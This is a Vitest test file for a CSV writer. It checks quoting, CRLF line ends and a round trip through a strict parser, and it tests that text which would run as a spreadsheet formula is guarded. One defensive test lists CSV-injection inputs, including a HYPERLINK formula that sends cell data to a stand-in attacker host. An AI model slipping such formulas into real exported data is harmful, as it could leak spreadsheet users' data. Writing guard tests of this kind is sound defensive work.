import { describe, expect, it } from 'vitest';
import { toCsv } from '../../src/core/data/csv.ts';
import type { Cell } from '../../src/core/data/engine.ts';

/** A strict RFC 4180 reader: CRLF records, quoted fields with doubled quotes. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  while (i < text.length) {
    let value = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quote');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            value += '"';
            i += 2;
          } else {
            i++;
            break;
          }
        } else value += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') {
        if (text[i] === '"' || text[i] === '\n') throw new Error(`bare ${text[i]} at ${i}`);
        value += text[i++];
      }
    }
    record.push(value);
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      records.push(record);
      record = [];
      i += 2;
    } else throw new Error(`expected , or CRLF at ${i}`);
  }
  if (record.length > 0) throw new Error('last record not ended by CRLF');
  return records;
}

describe('toCsv', () => {
  it('writes a header and rows with CRLF line ends', () => {
    expect(
      toCsv(
        ['a', 'b'],
        [
          [1, 'x'],
          [2.5, 'y'],
        ],
      ),
    ).toBe('a,b\r\n1,x\r\n2.5,y\r\n');
  });

  it('writes null as an empty field and booleans as words', () => {
    expect(toCsv(['a', 'b', 'c'], [[null, true, false]])).toBe('a,b,c\r\n,true,false\r\n');
  });

  it('quotes fields with commas, quotes, CR or LF and doubles the quotes', () => {
    expect(toCsv(['h'], [['a,b'], ['say "hi"'], ['line\nbreak'], ['cr\rhere'], ['plain']])).toBe(
      'h\r\n"a,b"\r\n"say ""hi"""\r\n"line\nbreak"\r\n"cr\rhere"\r\nplain\r\n',
    );
  });

  it('writes just the header for no rows', () => {
    expect(toCsv(['only'], [])).toBe('only\r\n');
  });

  it('round-trips a tricky table', () => {
    const headers = ['id', 'name, full', 'quote "q"', 'notes', 'Größe', 'empty'];
    const rows: Cell[][] = [
      [1, 'Ann', 'a "b" c', 'two\r\nlines', 'München', ''],
      [2, ' spaced ', '""', 'trailing,', '日本語 ✓', null],
      [-3.25, 'x', ',', '\n', 'emoji 🎉', 'end'],
      [1e21, 'tab\tinside', 'semi;colon', "'quoted'", 'a\u00a0b', 'z'],
    ];
    const parsed = parseCsv(toCsv(headers, rows));
    expect(parsed[0]).toEqual(headers);
    expect(parsed.slice(1)).toEqual(rows.map((r) => r.map((c) => (c === null ? '' : String(c)))));
  });

  it('guards text that a spreadsheet would run as a formula', () => {
    const dangerous = [
      '=HYPERLINK("http://evil.example/?"&A1,"x")',
      '+1+1',
      '-2+3',
      '@SUM(A1:A2)',
      '\tTAB',
      '\rCR',
      '=1,2',
    ];
    const parsed = parseCsv(
      toCsv(
        ['v'],
        dangerous.map((d) => [d]),
      ),
    );
    expect(parsed.slice(1).map((r) => r[0])).toEqual(dangerous.map((d) => `'${d}`));
  });

  it('guards a header like a cell', () => {
    expect(toCsv(['=cmd'], [])).toBe("'=cmd\r\n");
  });

  it('leaves numbers alone, negative ones included, and text that only contains the signs', () => {
    expect(
      toCsv(
        ['n', 't'],
        [
          [-5, 'a=b'],
          [0, 'x-y'],
        ],
      ),
    ).toBe('n,t\r\n-5,a=b\r\n0,x-y\r\n');
  });
});
